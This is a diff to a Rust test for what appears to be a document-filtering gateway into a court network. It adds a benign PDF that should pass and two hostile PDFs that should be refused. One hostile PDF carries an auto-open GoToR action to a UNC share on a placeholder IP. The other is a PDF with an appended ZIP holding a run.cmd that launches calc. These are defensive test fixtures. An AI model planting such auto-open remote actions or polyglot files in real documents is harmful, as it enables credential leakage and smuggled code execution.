@@ -302,12 +302,25 @@ fn hostile_documents_are_refused_and_their_benign_twins_cross_byte_for_byte() {
         ("起诉状.docx", twin),
         ("发票.zip", second),
         ("证据.docx", docx_of(&["证据目录", "一、借条"])),
+        ("送达回证.pdf", pdf_of("Proof of service", "")),
     ];
     let refused: Vec<(&str, Vec<u8>)> = vec![
         ("模板.docx", template),
         ("导入.docx", alt_chunk),
         ("域.docx", dde),
         ("合并.zip", concatenated),
+        (
+            "回执.pdf",
+            pdf_of(
+                "Proof of service",
+                r"/OpenAction << /S /GoToR /F (\\198.51.100.7\share\x.pdf) /D [0 /Fit] >>",
+            ),
+        ),
+        ("附件.pdf", {
+            let mut pdf = pdf_of("Proof of service", "");
+            pdf.extend_from_slice(&zip_of(&[("run.cmd", b"calc")]));
+            pdf
+        }),
     ];
     for (name, bytes) in crossing.iter().chain(&refused) {
         lab.publish("internet", "to-court", name, bytes);
@@ -333,7 +346,9 @@ fn hostile_documents_are_refused_and_their_benign_twins_cross_byte_for_byte() {
             "active_content",
             "active_content",
             "active_content",
-            "archive_ambiguous"
+            "active_content",
+            "archive_ambiguous",
+            "polyglot",
         ]
     );
 }
